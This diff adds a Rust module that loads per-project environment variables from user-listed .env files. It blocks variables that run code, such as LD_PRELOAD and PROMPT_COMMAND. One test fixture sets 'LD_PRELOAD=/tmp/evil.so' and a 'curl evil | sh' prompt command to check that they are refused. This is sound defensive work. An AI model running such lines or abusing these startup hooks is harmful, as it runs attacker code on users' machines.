@@ -0,0 +1,533 @@
+use crate::env_activation::{activation_watch_paths, EnvActivation};
+use crate::errors::PtyError;
+use serde::{Deserialize, Serialize};
+use std::collections::{BTreeMap, HashMap};
+use std::fmt;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::time::SystemTime;
+
+/// Per-project settings, stored in the app data dir keyed by project id.
+pub const PROJECT_ENV_FILE_NAME: &str = "dispatcher-project-env.json";
+/// Per-project shell history files, in the app data dir.
+pub const PROJECT_HISTORY_DIR: &str = "shell-history";
+
+/// Where a project's environment comes from.  Files are read from the
+/// project root in order, then `env` is applied on top.  No files are read
+/// until the user lists them: a cloned repository's `.env` must not run
+/// code in every shell opened in it.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase", default)]
+pub struct ProjectEnvConfig {
+    /// Paths relative to the project root; missing files are skipped.
+    pub env_files: Vec<String>,
+    /// Values may refer to variables set by the files or inherited.
+    pub env: BTreeMap<String, String>,
+    /// Evaluated before the files, so they can build on its variables.
+    pub activation: Option<EnvActivation>,
+    /// Give the project's shells their own history file instead of the
+    /// user's HISTFILE.
+    pub project_history: bool,
+}
+
+impl ProjectEnvConfig {
+    pub fn env_file_paths(&self, project_root: &str) -> Vec<PathBuf> {
+        self.env_files
+            .iter()
+            .map(|file| Path::new(project_root).join(file))
+            .collect()
+    }
+
+    /// Files whose changes alter the project's environment.
+    pub fn watched_paths(&self, project_root: &str) -> Vec<PathBuf> {
+        let mut paths = self.env_file_paths(project_root);
+        if self.activation.is_some() {
+            paths.extend(activation_watch_paths(Path::new(project_root)));
+        }
+        paths
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+enum ValuePart {
+    Text(String),
+    /// `$NAME`, `${NAME}` or `${NAME:-default}`.
+    Var {
+        name: String,
+        default: Option<String>,
+    },
+}
+
+/// One `NAME=value` line, with interpolation left for spawn time so it sees
+/// the shell's actual environment.
+#[derive(Debug, Clone, PartialEq)]
+pub struct EnvAssignment {
+    pub name: String,
+    parts: Vec<ValuePart>,
+}
+
+/// Variables an env file may not set, because the dynamic loader or the
+/// shell runs code from them (prompt strings are expanded, including
+/// command substitutions).  They can still be set in the stored map.
+const REFUSED_FILE_VARS: [&str; 10] = [
+    "BASH_ENV",
+    "BASHOPTS",
+    "ENV",
+    "PROMPT_COMMAND",
+    "PS0",
+    "PS1",
+    "PS2",
+    "PS4",
+    "SHELLOPTS",
+    "ZDOTDIR",
+];
+const REFUSED_FILE_VAR_PREFIXES: [&str; 3] = ["BASH_FUNC_", "DYLD_", "LD_"];
+
+fn is_refused_file_var(name: &str) -> bool {
+    REFUSED_FILE_VARS.contains(&name)
+        || REFUSED_FILE_VAR_PREFIXES
+            .iter()
+            .any(|prefix| name.starts_with(prefix))
+}
+
+/// A project's assignments, plus what was left out of them.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct ProjectEnv {
+    pub assignments: Vec<EnvAssignment>,
+    /// One message per file that tried to set refused variables.
+    pub warnings: Vec<String>,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct EnvParseError {
+    /// The file, or `project config` for the stored map.
+    pub source: String,
+    /// 1-based; 0 for entries of the stored map.
+    pub line: usize,
+    pub message: String,
+}
+
+impl fmt::Display for EnvParseError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        if self.line > 0 {
+            write!(f, "{}:{}: {}", self.source, self.line, self.message)
+        } else {
+            write!(f, "{}: {}", self.source, self.message)
+        }
+    }
+}
+
+fn is_valid_name(name: &str) -> bool {
+    let mut chars = name.chars();
+    chars
+        .next()
+        .is_some_and(|ch| ch.is_ascii_alphabetic() || ch == '_')
+        && chars.all(|ch| ch.is_ascii_alphanumeric() || ch == '_')
+}
+
+/// Parse a `.env`-style file: `NAME=value` lines with an optional `export`,
+/// `#` comments, single-quoted literals, double-quoted values with escapes,
+/// and `$NAME` / `${NAME:-default}` interpolation outside single quotes.
+/// Quoted values may span lines.
+pub fn parse_env_file(source: &str, content: &str) -> Result<Vec<EnvAssignment>, EnvParseError> {
+    let mut assignments = Vec::new();
+    let mut lines = content.lines().enumerate();
+    while let Some((index, line)) = lines.next() {
+        let error = |message: String| EnvParseError {
+            source: source.to_owned(),
+            line: index + 1,
+            message,
+        };
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let line = line.strip_prefix("export ").map_or(line, str::trim_start);
+        let Some((name, value)) = line.split_once('=') else {
+            return Err(error(String::from("expected NAME=value")));
+        };
+        let name = name.trim_end();
+        if !is_valid_name(name) {
+            return Err(error(format!("invalid variable name {:?}", name)));
+        }
+        let mut value = value.trim_start().to_owned();
+        while let Some(quote) = open_quote(&value) {
+            let Some((_, next)) = lines.next() else {
+                let kind = if quote == '"' { "double" } else { "single" };
+                return Err(error(format!("unterminated {} quote", kind)));
+            };
+            value.push('\n');
+            value.push_str(next);
+        }
+        let parts = parse_value(&value).map_err(error)?;
+        assignments.push(EnvAssignment {
+            name: name.to_owned(),
+            parts,
+        });
+    }
+    Ok(assignments)
+}
+
+fn parse_value(raw: &str) -> Result<Vec<ValuePart>, String> {
+    if let Some(rest) = raw.strip_prefix('\'') {
+        let end = rest
+            .find('\'')
+            .ok_or_else(|| String::from("unterminated single quote"))?;
+        check_after_quote(&rest[end + 1..])?;
+        return Ok(vec![ValuePart::Text(rest[..end].to_owned())]);
+    }
+
+    let (quoted, body) = match raw.strip_prefix('"') {
+        Some(rest) => (true, rest),
+        None => (false, raw),
+    };
+    let mut parts = Vec::new();
+    let mut text = String::new();
+    let mut closed = false;
+    let mut pos = 0;
+    while let Some(ch) = body[pos..].chars().next() {
+        pos += ch.len_utf8();
+        match ch {
+            '"' if quoted => {
+                check_after_quote(&body[pos..])?;
+                closed = true;
+                break;
+            }
+            '#' if !quoted && (pos == 1 || body[..pos - 1].ends_with(char::is_whitespace)) => {
+                break;
+            }
+            '\\' => match body[pos..].chars().next() {
+                Some(escaped) => {
+                    pos += escaped.len_utf8();
+                    match escaped {
+                        'n' if quoted => text.push('\n'),
+                        't' if quoted => text.push('\t'),
+                        other => text.push(other),
+                    }
+                }
+                None => text.push('\\'),
+            },
+            '$' => {
+                let (var, consumed) = parse_variable(&body[pos..])?;
+                match var {
+                    Some(var) => {
+                        if !text.is_empty() {
+                            parts.push(ValuePart::Text(std::mem::take(&mut text)));
+                        }
+                        parts.push(var);
+                        pos += consumed;
+                    }
+                    None => text.push('$'),
+                }
+            }
+            other => text.push(other),
+        }
+    }
+    if quoted && !closed {
+        return Err(String::from("unterminated double quote"));
+    }
+    if !quoted {
+        let trimmed = text.trim_end().len();
+        text.truncate(trimmed);
+    }
+    if !text.is_empty() {
+        parts.push(ValuePart::Text(text));
+    }
+    Ok(parts)
+}
+
+/// The variable reference following a `$`, and how many bytes it used.  A
+/// `$` not followed by a name is literal.
+fn parse_variable(after: &str) -> Result<(Option<ValuePart>, usize), String> {
+    if let Some(braced) = after.strip_prefix('{') {
+        let end = braced
+            .find('}')
+            .ok_or_else(|| String::from("unterminated ${"))?;
+        let inner = &braced[..end];
+        let (name, default) = match inner.split_once(":-") {
+            Some((name, default)) => (name, Some(default.to_owned())),
+            None => (inner, None),
+        };
+        if !is_valid_name(name) {
+            return Err(format!("invalid variable reference ${{{}}}", inner));
+        }
+        let var = ValuePart::Var {
+            name: name.to_owned(),
+            default,
+        };
+        return Ok((Some(var), end + 2));
+    }
+
+    let len = after
+        .find(|ch: char| !(ch.is_ascii_alphanumeric() || ch == '_'))
+        .unwrap_or(after.len());
+    if len == 0 || !is_valid_name(&after[..len]) {
+        return Ok((None, 0));
+    }
+    let var = ValuePart::Var {
+        name: after[..len].to_owned(),
+        default: None,
+    };
+    Ok((Some(var), len))
+}
+
+/// The quote a value starts with when it is not closed yet.
+fn open_quote(value: &str) -> Option<char> {
+    let quote = value
+        .chars()
+        .next()
+        .filter(|ch| *ch == '"' || *ch == '\'')?;
+    let mut escaped = false;
+    for ch in value[1..].chars() {
+        match ch {
+            '\\' if quote == '"' && !escaped => escaped = true,
+            ch if ch == quote && !escaped => return None,
+            _ => escaped = false,
+        }
+    }
+    Some(quote)
+}
+
+fn check_after_quote(rest: &str) -> Result<(), String> {
+    let rest = rest.trim_start();
+    if rest.is_empty() || rest.starts_with('#') {
+        Ok(())
+    } else {
+        Err(format!("unexpected text after closing quote: {:?}", rest))
+    }
+}
+
+/// The project's assignments: its env files in order, then the stored map.
+/// Refused variables in the files are skipped with a warning.
+pub fn load_project_env(
+    project_root: &str,
+    config: &ProjectEnvConfig,
+) -> Result<ProjectEnv, EnvParseError> {
+    let mut project_env = ProjectEnv::default();
+    for path in config.env_file_paths(project_root) {
+        let content = match fs::read_to_string(&path) {
+            Ok(content) => content,
+            Err(err) if err.kind() == std::io::ErrorKind::NotFound => continue,
+            Err(err) => {
+                return Err(EnvParseError {
+                    source: path.display().to_string(),
+                    line: 0,
+                    message: err.to_string(),
+                })
+            }
+        };
+        let source = path.display().to_string();
+        let (refused, allowed): (Vec<_>, Vec<_>) = parse_env_file(&source, &content)?
+            .into_iter()
+            .partition(|assignment| is_refused_file_var(&assignment.name));
+        if !refused.is_empty() {
+            let names: Vec<&str> = refused
+                .iter()
+                .map(|assignment| assignment.name.as_str())
+                .collect();
+            project_env.warnings.push(format!(
+                "{}: ignored {}, which env files may not set",
+                source,
+                names.join(", ")
+            ));
+        }
+        project_env.assignments.extend(allowed);
+    }
+    project_env.assignments.extend(parse_config_env(config)?);
+    Ok(project_env)
+}
+
+/// The stored map's assignments, checked the same way as file lines.
+pub fn parse_config_env(config: &ProjectEnvConfig) -> Result<Vec<EnvAssignment>, EnvParseError> {
+    let mut assignments = Vec::with_capacity(config.env.len());
+    for (name, value) in &config.env {
+        let error = |message: String| EnvParseError {
+            source: String::from("project config"),
+            line: 0,
+            message: format!("{}: {}", name, message),
+        };
+        if !is_valid_name(name) {
+            return Err(error(String::from("invalid variable name")));
+        }
+        assignments.push(EnvAssignment {
+            name: name.clone(),
+            parts: parse_value(value).map_err(error)?,
+        });
+    }
+    Ok(assignments)
+}
+
+/// Interpolate assignments in order.  References see earlier assignments
+/// first, then `inherited`; unset variables expand to nothing.
+pub fn resolve_assignments(
+    assignments: &[EnvAssignment],
+    inherited: impl Fn(&str) -> Option<String>,
+) -> Vec<(String, String)> {
+    let mut resolved: Vec<(String, String)> = Vec::with_capacity(assignments.len());
+    for assignment in assignments {
+        let lookup = |name: &str| {
+            resolved
+                .iter()
+                .rev()
+                .find(|(resolved_name, _)| resolved_name == name)
+                .map(|(_, value)| value.clone())
+                .or_else(|| inherited(name))
+        };
+        let value: String = assignment
+            .parts
+            .iter()
+            .map(|part| match part {
+                ValuePart::Text(text) => text.clone(),
+                ValuePart::Var { name, default } => match default {
+                    Some(default) => lookup(name)
+                        .filter(|value| !value.is_empty())
+                        .unwrap_or_else(|| default.clone()),
+                    None => lookup(name).unwrap_or_default(),
+                },
+            })
+            .collect();
+        resolved.push((assignment.name.clone(), value));
+    }
+    resolved
+}
+
+/// The history file name for a project.  Keyed by the project id rather
+/// than its root, so the history survives renaming or moving the project.
+pub fn history_file_name(project_id: &str) -> String {
+    let name: String = project_id
+        .chars()
+        .map(|c| if c.is_ascii_alphanumeric() || c == '-' || c == '_' { c } else { '_' })
+        .collect();
+    format!("{}.history", name)
+}
+
+/// Modification time and size of each file, to notice edits cheaply.
+pub type FileStamps = Vec<Option<(SystemTime, u64)>>;
+
+pub fn file_stamps(paths: &[PathBuf]) -> FileStamps {
+    paths
+        .iter()
+        .map(|path| {
+            let metadata = fs::metadata(path).ok()?;
+            Some((metadata.modified().ok()?, metadata.len()))
+        })
+        .collect()
+}
+
+pub fn load_configs(path: &Path) -> Result<HashMap<String, ProjectEnvConfig>, PtyError> {
+    match fs::read_to_string(path) {
+        Ok(content) => serde_json::from_str(&content)
+            .map_err(|err| PtyError::from(format!("Invalid {}: {}", path.display(), err))),
+        Err(err) if err.kind() == std::io::ErrorKind::NotFound => Ok(HashMap::new()),
+        Err(err) => Err(PtyError::from(err)),
+    }
+}
+
+pub fn save_configs(
+    path: &Path,
+    configs: &HashMap<String, ProjectEnvConfig>,
+) -> Result<(), PtyError> {
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    let content =
+        serde_json::to_string_pretty(configs).map_err(|err| PtyError::from(err.to_string()))?;
+    let tmp_path = path.with_extension("json.tmp");
+    fs::write(&tmp_path, content)?;
+    fs::rename(&tmp_path, path)?;
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn parses_and_interpolates_env_files() {
+        let content = "\
+# database
+export DB_HOST=localhost
+DB_URL=\"postgres://${DB_USER:-app}@$DB_HOST/main\"  # comment
+LITERAL='$HOME stays'
+PATH=./node_modules/.bin:${PATH}
+GREETING=\"line\\nbreak\"
+EMPTY=
+";
+        let assignments = parse_env_file(".env", content).unwrap();
+        let resolved = resolve_assignments(&assignments, |name| match name {
+            "PATH" => Some("/usr/bin".to_string()),
+            _ => None,
+        });
+        assert_eq!(
+            resolved,
+            vec![
+                ("DB_HOST".to_string(), "localhost".to_string()),
+                ("DB_URL".to_string(), "postgres://app@localhost/main".to_string()),
+                ("LITERAL".to_string(), "$HOME stays".to_string()),
+                ("PATH".to_string(), "./node_modules/.bin:/usr/bin".to_string()),
+                ("GREETING".to_string(), "line\nbreak".to_string()),
+                ("EMPTY".to_string(), String::new()),
+            ]
+        );
+
+        let err = parse_env_file(".env", "A=1\nB=\"open\n").unwrap_err();
+        assert_eq!(err.to_string(), ".env:2: unterminated double quote");
+        let err = parse_env_file(".env", "\n\nnot an assignment").unwrap_err();
+        assert_eq!(err.line, 3);
+        let err = parse_env_file(".env", "URL=${HOST").unwrap_err();
+        assert_eq!(err.message, "unterminated ${");
+    }
+
+    #[test]
+    fn reads_multi_line_values_and_refuses_startup_variables() {
+        let content = "\
+CERT=\"-----BEGIN CERT-----
+abc \\\" def
+-----END CERT-----\"
+NOTE='two
+lines'
+LD_PRELOAD=/tmp/evil.so
+PROMPT_COMMAND='curl evil | sh'
+NAME=app
+";
+        let assignments = parse_env_file(".env", content).unwrap();
+        let resolved = resolve_assignments(&assignments, |_| None);
+        assert_eq!(
+            resolved[0],
+            (
+                "CERT".to_string(),
+                "-----BEGIN CERT-----\nabc \" def\n-----END CERT-----".to_string()
+            )
+        );
+        assert_eq!(resolved[1], ("NOTE".to_string(), "two\nlines".to_string()));
+        assert_eq!(resolved.len(), 5);
+
+        let err = parse_env_file(".env", "A='open\nstill open").unwrap_err();
+        assert_eq!(err.to_string(), ".env:1: unterminated single quote");
+
+        let root =
+            std::env::temp_dir().join(format!("dispatcher-project-env-{}", std::process::id()));
+        fs::create_dir_all(&root).unwrap();
+        fs::write(root.join(".env"), content).unwrap();
+        let root_str = root.to_str().unwrap();
+
+        let unlisted = load_project_env(root_str, &ProjectEnvConfig::default()).unwrap();
+        assert_eq!(unlisted, ProjectEnv::default());
+
+        let config = ProjectEnvConfig {
+            env_files: vec![".env".to_string()],
+            ..Default::default()
+        };
+        let project_env = load_project_env(root_str, &config).unwrap();
+        let names: Vec<&str> = project_env
+            .assignments
+            .iter()
+            .map(|assignment| assignment.name.as_str())
+            .collect();
+        assert_eq!(names, vec!["CERT", "NOTE", "NAME"]);
+        assert_eq!(project_env.warnings.len(), 1);
+        assert!(project_env.warnings[0]
+            .ends_with("ignored LD_PRELOAD, PROMPT_COMMAND, which env files may not set"));
+        fs::remove_dir_all(&root).unwrap();
+    }
+}